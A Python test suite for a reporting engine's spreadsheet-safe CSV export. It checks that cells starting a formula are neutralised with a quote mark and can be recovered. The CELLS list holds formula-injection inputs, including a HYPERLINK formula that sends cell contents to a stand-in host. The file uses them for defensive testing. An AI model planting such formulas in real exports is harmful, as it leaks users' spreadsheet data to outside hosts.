"""Files that spreadsheets open: no cell is a formula, and what was there can be had back."""

import csv
import io
import json
import re
import uuid
from typing import Any

import pytest
from hypothesis import HealthCheck, given
from hypothesis import settings as hypothesis_settings
from hypothesis import strategies as st

from footfall.errors import RequestRefused
from footfall.reports.query.statement import FORMULA_MARK, FORMULA_START
from footfall.state import JobStatus

NOW_MS = 1_760_000_000_000
# What some spreadsheet takes for the beginning of a formula, or drops, and so comes to one.
FORMULAS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
CELLS = [
    '=HYPERLINK("http://example.com?"&A1,"click")',
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\r\n=1",
    "\uff1d1+1",
    "'",
    "''",
    "'=1",
    "'quoted'",
    "",
    " =1",
    "a=1",
    "1-1",
    "|=1",
    ",=1",
    '"=1"',
    '"',
    "=1|2",
    "'|",
    "-1\n-1",
    "\0=1",
    "\ufeff=1",
]


def neutralised(text: str) -> str:
    """A model of what the engine does."""
    return FORMULA_MARK + text if re.match(FORMULA_START, text) else text


def undone(cell: str, said: dict[str, str]) -> str:
    """What the manifest says of how to have the value back."""
    return cell.removeprefix(said["mark"])


async def report(place: Any, events: list[dict[str, Any]], **output: Any) -> tuple[list[list[str]], dict[str, Any]]:
    """The cells of the file of these events, and its manifest."""
    product, batch = uuid.uuid4().hex, str(uuid.uuid4())
    place.load(event | {"product": product, "batch": batch, "sequence": n + 1} for n, event in enumerate(events))

    job = await place.make(output=output, product=product)
    assert job.status is JobStatus.COMPLETE, job.reason
    text, manifest = (await place.read(job)).decode(), json.loads(job.manifest)
    delimiter = output.get("delimiter", "|")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True)), manifest


@pytest.mark.parametrize("delimiter", ["|", ",", ";", "\t", "'", "=", "-"])
async def test_no_cell_begins_a_formula_and_each_can_be_had_back(place, delimiter: str) -> None:
    events = [{"timestamp": NOW_MS - 99 + n, "type": cell, "context": [cell, "x"]} for n, cell in enumerate(CELLS)]
    rows, manifest = await report(place, events, spreadsheetSafe=True, delimiter=delimiter)
    said = manifest["spreadsheetSafe"]
    assert said == {"mark": "'", "pattern": FORMULA_START}
    assert rows == [[str(NOW_MS - 99 + n), neutralised(cell), neutralised(cell), "x"] for n, cell in enumerate(CELLS)]
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULAS)]
    assert [[undone(cell, said) for cell in row[1:]] for row in rows] == [[cell, cell, "x"] for cell in CELLS]


@pytest.mark.parametrize("delimiter", ["|", ","])
async def test_a_file_is_exact_unless_it_is_asked_to_be_safe(place, delimiter: str) -> None:
    events = [{"timestamp": NOW_MS - 99 + n, "type": cell, "context": [cell, "x"]} for n, cell in enumerate(CELLS)]
    for given_so in ({}, {"spreadsheetSafe": False}, {"spreadsheetSafe": None}):
        rows, manifest = await report(place, events, delimiter=delimiter, **given_so)
        assert [row[1:] for row in rows] == [[cell, cell, "x"] for cell in CELLS]
        assert "spreadsheetSafe" not in manifest


async def test_what_the_plan_s_columns_lack_stays_empty(place) -> None:
    rows, _ = await report(place, [{"context": ["=1", "'"]}, {"context": []}], spreadsheetSafe="true", header=True)
    assert rows == [
        ["timestamp", "type", "context1", "context2"],
        [str(NOW_MS - 86_400_000), "T", "'=1", "''"],
        [str(NOW_MS - 86_400_000), "T", "", ""],
    ]


@pytest.mark.parametrize("file_format", ["jsonl", "parquet", "arrow"])
async def test_other_formats_are_not_for_spreadsheets(place, file_format: str) -> None:
    with pytest.raises(RequestRefused) as caught:
        await place.order(output={"format": file_format, "spreadsheetSafe": True})
    assert [str(problem) for problem in caught.value.problems] == [
        f"output.spreadsheetSafe: is for csv, which spreadsheets open, not for {file_format}"
    ]


@pytest.mark.parametrize("delimiter", [";", ",", " ", "-"])
@pytest.mark.parametrize("header", [True, False])
async def test_times_for_excel_stand_behind_a_byte_order_mark(place, delimiter: str, header: bool) -> None:
    events = [{"timestamp": NOW_MS - 1 + n, "context": [value]} for n, value in enumerate(("Grüße", "=1"))]
    place.load(events)
    output = {"times": "excel", "delimiter": delimiter, "header": header, "spreadsheetSafe": True}

    job = await place.make(output=output)
    assert job.status is JobStatus.COMPLETE, job.reason
    data, manifest = await place.read(job), json.loads(job.manifest)
    assert data.startswith(b"\xef\xbb\xbf")
    assert manifest["columns"][0]["type"] == "text, such as 2019-10-14 05:00:01.500, UTC"
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter, strict=True))
    names = [["timestamp", "type", "context1"]] if header else []
    assert rows == [*names, ["2025-10-09 08:53:19.999", "T", "Grüße"], ["2025-10-09 08:53:20.000", "T", "'=1"]]


@pytest.mark.parametrize("file_format", ["jsonl", "xlsx"])
async def test_times_for_excel_are_for_csv(place, file_format: str) -> None:
    with pytest.raises(RequestRefused) as caught:
        await place.order(output={"format": file_format, "times": "excel"})
    assert [problem.where for problem in caught.value.problems] == ["output.times"]


TEXT = st.text(st.sampled_from("=+-@'\t\r\n|\"\uff1d\uff0b\uff0d\uff20a ") | st.characters(codec="utf-8"), max_size=6)


@given(TEXT)
def test_any_text_can_be_had_back(text: str) -> None:
    cell = neutralised(text)
    assert not cell.startswith(FORMULAS)
    assert undone(cell, {"mark": FORMULA_MARK, "pattern": FORMULA_START}) == text


@hypothesis_settings(max_examples=15, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(st.lists(TEXT, min_size=1, max_size=60))
async def test_the_engine_does_as_the_model_does(place, texts: list[str]) -> None:
    events = [{"timestamp": NOW_MS - 99 + n, "context": [text]} for n, text in enumerate(texts)]
    rows, _ = await report(place, events, spreadsheetSafe=True)
    assert [row[2] for row in rows] == [neutralised(text) for text in texts]
